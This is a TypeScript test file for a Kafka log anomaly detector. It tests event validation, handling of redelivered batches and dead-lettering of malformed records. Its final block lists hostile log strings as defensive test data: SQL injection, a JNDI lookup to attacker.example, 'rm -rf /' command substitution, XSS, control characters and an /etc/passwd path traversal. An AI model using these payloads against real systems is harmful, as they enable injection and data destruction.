import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { MAX_DEAD_LETTER_RAW_BYTES } from '../../../functions/detector/dead-letter-mapping.js';
import type { Detector } from '../../../functions/detector/create-detector.js';
import { ValidationError } from '../../../functions/shared/errors.js';
import { LABEL_HEADER } from '../../../functions/shared/log/index.js';
import { loadEventFixture, mskEvent, selfManagedKafkaEvent } from '../../helpers/kafka-events.js';
import { createTestDatabase, type TestDatabase } from '../../helpers/postgres.js';
import { startTestS3, type TestS3 } from '../../helpers/s3.js';
import { BASE_MS, MODEL_BUCKET, MemoryDetectorLogger, logRecordInputs, rejectionOf, tableCounts, testDetector, truncateDetectorTables } from './detector-kit.js';

let db: TestDatabase;
let s3: TestS3;
let logger: MemoryDetectorLogger;
let detector: Detector;

beforeAll(async () => {
  [db, s3] = await Promise.all([createTestDatabase(), startTestS3([MODEL_BUCKET])]);
});
afterAll(async () => {
  await Promise.all([db?.drop(), s3?.stop()]);
});
beforeEach(async () => {
  await truncateDetectorTables(db.pool);
  logger = new MemoryDetectorLogger();
  // No model is ever published under this prefix: every batch is stored unflagged.
  detector = testDetector({ pool: db.pool, s3: s3.client, prefix: 'events/models/', logger });
});

async function storedLogs() {
  const result = await db.pool.query(
    `SELECT topic, partition, kafka_offset::int AS offset, log_id, service, level, message, host, label, produced_at
     FROM logs ORDER BY topic, partition, kafka_offset`,
  );
  return result.rows;
}

async function storedDeadLetters() {
  const result = await db.pool.query(
    `SELECT topic, partition, kafka_offset::int AS offset, raw_key, raw_value, headers, reason, component
     FROM dead_letters ORDER BY topic, partition, kafka_offset`,
  );
  return result.rows;
}

describe('detector: event shapes', () => {
  it('stores every record of the aws:kafka fixture unflagged while there is no model', async () => {
    // Act
    const summary = await detector.handle(loadEventFixture('msk-event'));

    // Assess
    expect(summary).toEqual({ records: 7, stored: 7, duplicates: 0, anomalies: 0, deadLetters: 0, modelVersion: null });
    const rows = await storedLogs();
    expect(rows.map((row) => `${row.topic}-${row.partition}@${row.offset}`)).toEqual([
      'logs-0@41', 'logs-0@42', 'logs-0@43', 'logs-1@17', 'logs-1@18', 'logs-2@8', 'logs-2@9',
    ]);
    expect(rows[0]).toMatchObject({
      log_id: '6f1d2c3b-8a9e-4f70-b1c2-000000000001',
      service: 'auth-service',
      level: 'INFO',
      message: 'User login succeeded for user_id=4821 in 35ms',
      host: 'ip-10-0-1-20',
      label: 'none',
    });
    expect((rows[0].produced_at as Date).getTime()).toBe(1714564800000);
    // The ground-truth label travels in the header and lands in logs.label (evaluation only).
    expect(rows.find((row) => row.offset === 9 && row.partition === 2)?.label).toBe('error_spike');
    expect(logger.lastBatch()).toMatchObject({ eventSource: 'aws:kafka', records: 7, stored: 7, labelsRefused: 0, training: 'skipped', partitions: ['logs-0', 'logs-1', 'logs-2'] });
    expect(await tableCounts(db.pool)).toEqual({ logs: 7, anomalies: 0, deadLetters: 0, models: 0 });
  });

  it('accepts the SelfManagedKafka fixture, whose partition and offset arrive as strings', async () => {
    // Act
    const summary = await detector.handle(loadEventFixture('self-managed-kafka-event'));

    // Assess
    expect(summary).toMatchObject({ records: 3, stored: 3, deadLetters: 0, modelVersion: null });
    const rows = await storedLogs();
    expect(rows.map((row) => `${row.topic}-${row.partition}@${row.offset}`)).toEqual(['app-logs-v2-0@3', 'app-logs-v2-11@9007', 'app-logs-v2-11@9008']);
    expect(logger.lastBatch()).toMatchObject({ eventSource: 'SelfManagedKafka' });
  });

  it.each([
    ['null', null],
    ['a string', 'logs-0'],
    ['an array', [{ topic: 'logs' }]],
    ['an SQS event', { Records: [{ eventSource: 'aws:sqs', body: '{}' }] }],
    ['an aws:kafka event without its cluster ARN', { eventSource: 'aws:kafka', records: {} }],
    ['a Kafka event without a records map', { eventSource: 'SelfManagedKafka', bootstrapServers: 'b:9092' }],
  ])('refuses %s with a ValidationError and stores nothing', async (_name, event) => {
    // Act
    const error = await rejectionOf(detector.handle(event));

    // Assess
    expect(error).toBeInstanceOf(ValidationError);
    expect(error.message).toMatch(/^the detector accepts only MSK \(aws:kafka\) or SelfManagedKafka events: /);
    expect(await tableCounts(db.pool)).toEqual({ logs: 0, anomalies: 0, deadLetters: 0, models: 0 });
  });

  it('summarises an event with no records as all zeros', async () => {
    // Act
    const summary = await detector.handle(mskEvent([]));

    // Assess
    expect(summary).toEqual({ records: 0, stored: 0, duplicates: 0, anomalies: 0, deadLetters: 0, modelVersion: null });
  });
});

describe('detector: redelivery', () => {
  it('adds nothing when the same batch arrives again, and reports its records as duplicates', async () => {
    // Prepare
    const event = loadEventFixture('msk-event');
    await detector.handle(event);

    // Act
    const again = await detector.handle(loadEventFixture('msk-event'));

    // Assess
    expect(again).toEqual({ records: 7, stored: 0, duplicates: 7, anomalies: 0, deadLetters: 0, modelVersion: null });
    expect(await tableCounts(db.pool)).toMatchObject({ logs: 7, deadLetters: 0 });
  });

  it('stores only the new records of a batch that overlaps an earlier one', async () => {
    // Prepare
    const records = Array.from({ length: 6 }, (_, i) => ({ id: `r-${i}`, ts: new Date(BASE_MS + i * 1000).toISOString(), service: 'api', level: 'INFO' as const, message: `request ${i} ok`, host: 'web-1' }));
    const inputs = logRecordInputs(records, { partition: 0, firstOffset: 500 });
    await detector.handle(mskEvent(inputs.slice(0, 4)));

    // Act
    const summary = await detector.handle(mskEvent(inputs.slice(2)));

    // Assess
    expect(summary).toMatchObject({ records: 4, stored: 2, duplicates: 2 });
    expect((await storedLogs()).map((row) => row.log_id)).toEqual(['r-0', 'r-1', 'r-2', 'r-3', 'r-4', 'r-5']);
  });
});

describe('detector: poison records', () => {
  it('dead-letters each bad record with its reason and stores the rest', async () => {
    // Act
    const summary = await detector.handle(loadEventFixture('msk-event-poison'));

    // Assess: counts (the record without an offset cannot be stored under its coordinates)
    expect(summary).toEqual({ records: 12, stored: 3, duplicates: 0, anomalies: 0, deadLetters: 8, unaddressable: 1, modelVersion: null });
    expect((await storedLogs()).map((row) => `${row.partition}@${row.offset}`)).toEqual(['0@100', '0@108', '1@56']);
    const letters = await storedDeadLetters();
    const reasons = Object.fromEntries(letters.map((letter) => [`${letter.partition}@${letter.offset}`, letter.reason as string]));
    expect(reasons).toEqual({
      '0@101': expect.stringMatching(/^undecodable Kafka record: record value is not valid base64/),
      '0@102': expect.stringMatching(/^log record is not JSON/),
      '0@103': 'log record is empty: the Kafka record has no value',
      '0@104': expect.stringMatching(/^undecodable Kafka record: record value decodes to more than 65536 bytes/),
      '0@105': 'log record contains forbidden key "__proto__" (prototype pollution)',
      '0@106': expect.stringMatching(/^undecodable Kafka record: record header entry 0: value holds a number outside 0–255/),
      '0@107': expect.stringMatching(/^undecodable Kafka record: record key is not valid base64/),
      '1@55': expect.stringMatching(/^undecodable Kafka record: record has no topic/),
    });
    expect(letters.every((letter) => letter.component === 'detector' && letter.topic === 'logs')).toBe(true);
    // Assess: the batch's log line names the unaddressable record without quoting it
    expect(logger.lastBatch()).toMatchObject({ deadLetters: 8, unaddressable: 1, unaddressableReasons: [{ topic: 'logs', partition: 1, reason: expect.stringMatching(/record is not an object; the record names no offset/) }] });
    expect(logger.text()).not.toContain('garbage-instead-of-a-record');
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('keeps the raw bytes: decoded key and value as they arrived, undecodable records as their event JSON', async () => {
    // Prepare
    const fixture = loadEventFixture('msk-event-poison') as { records: Record<string, Array<Record<string, unknown>>> };
    const original = (offset: number) => fixture.records['logs-0']!.find((record) => record.offset === offset)!;

    // Act
    await detector.handle(loadEventFixture('msk-event-poison'));

    // Assess
    const letters = await storedDeadLetters();
    const letter = (offset: number) => letters.find((row) => row.partition === 0 && row.offset === offset)!;
    expect(letter(102).raw_value).toEqual(Buffer.from(original(102).value as string, 'base64'));
    expect(letter(102).raw_key).toEqual(Buffer.from(original(102).key as string, 'base64'));
    expect(letter(102).headers).toEqual([{ key: LABEL_HEADER, valueBase64: Buffer.from('none').toString('base64') }]);
    expect(letter(103).raw_value).toBeNull();
    expect(JSON.parse((letter(101).raw_value as Buffer).toString('utf8'))).toEqual(original(101));
    expect(JSON.parse((letter(104).raw_value as Buffer).toString('utf8'))).toEqual(original(104));
    expect((letter(104).raw_value as Buffer).length).toBeLessThanOrEqual(MAX_DEAD_LETTER_RAW_BYTES);
  });

  it('counts a redelivered poison batch as duplicates, dead letters included', async () => {
    // Prepare
    await detector.handle(loadEventFixture('msk-event-poison'));

    // Act
    const again = await detector.handle(loadEventFixture('msk-event-poison'));

    // Assess
    expect(again).toEqual({ records: 12, stored: 0, duplicates: 11, anomalies: 0, deadLetters: 0, unaddressable: 1, modelVersion: null });
    expect(await tableCounts(db.pool)).toMatchObject({ logs: 3, deadLetters: 8 });
  });

  it('dead-letters records the database would refuse, instead of failing the batch', async () => {
    // Prepare: year 0 passes the log schema but not a timestamptz column; a huge Kafka timestamp is only left out
    const good = { id: 'fine', ts: '2026-11-24T10:00:00.000Z', service: 'api', level: 'INFO' as const, message: 'ok', host: 'web-1' };
    const inputs = logRecordInputs([good, { ...good, id: 'year-zero', ts: '0000-01-01T00:00:00.000Z' }, { ...good, id: 'far-future' }], { partition: 3, firstOffset: 0 });
    inputs[2] = { ...inputs[2]!, timestamp: 8.64e15 };

    // Act
    const summary = await detector.handle(selfManagedKafkaEvent(inputs));

    // Assess
    expect(summary).toMatchObject({ records: 3, stored: 2, deadLetters: 1 });
    const letters = await storedDeadLetters();
    expect(letters).toHaveLength(1);
    expect(letters[0]).toMatchObject({ offset: 1, reason: expect.stringMatching(/ts is not a valid timestamp/) });
    const far = (await storedLogs()).find((row) => row.log_id === 'far-future');
    expect(far?.produced_at).toBeNull();
  });
});

describe('detector: hostile log text', () => {
  const HOSTILE = [
    `'; DROP TABLE logs; --`,
    `Robert'); DELETE FROM anomalies WHERE ('1'='1`,
    '${jndi:ldap://attacker.example/a} $(rm -rf /) `id`',
    '\u001b[31mRED\u001b[0m <script>alert(1)</script> \u202eevil\u202c',
    'line one\r\nFAKE LOG LINE level=ERROR {"message":"forged"}',
    `$1 $$ dollar $$ quoting \\x00 \\' E'\\\\'`,
  ];

  it('stores it verbatim as data through parameters, and never writes it to the log', async () => {
    // Prepare
    const records = HOSTILE.map((text, i) => ({ id: `hostile-${i}`, ts: new Date(BASE_MS + i).toISOString(), service: 'edge', level: 'WARN' as const, message: text, host: `../../etc/passwd-${i}`, traceId: `t-${i}` }));

    // Act
    const summary = await detector.handle(mskEvent(logRecordInputs(records, { partition: 0, firstOffset: 900 })));

    // Assess
    expect(summary).toMatchObject({ stored: HOSTILE.length, deadLetters: 0 });
    expect((await storedLogs()).map((row) => row.message)).toEqual(HOSTILE);
    const tables = await db.pool.query(`SELECT count(*)::int AS n FROM information_schema.tables WHERE table_name IN ('logs', 'anomalies', 'dead_letters')`);
    expect(tables.rows[0].n).toBe(3);
    expect(logger.text()).not.toMatch(/DROP TABLE|jndi|etc\/passwd|FAKE LOG LINE/);
  });
});
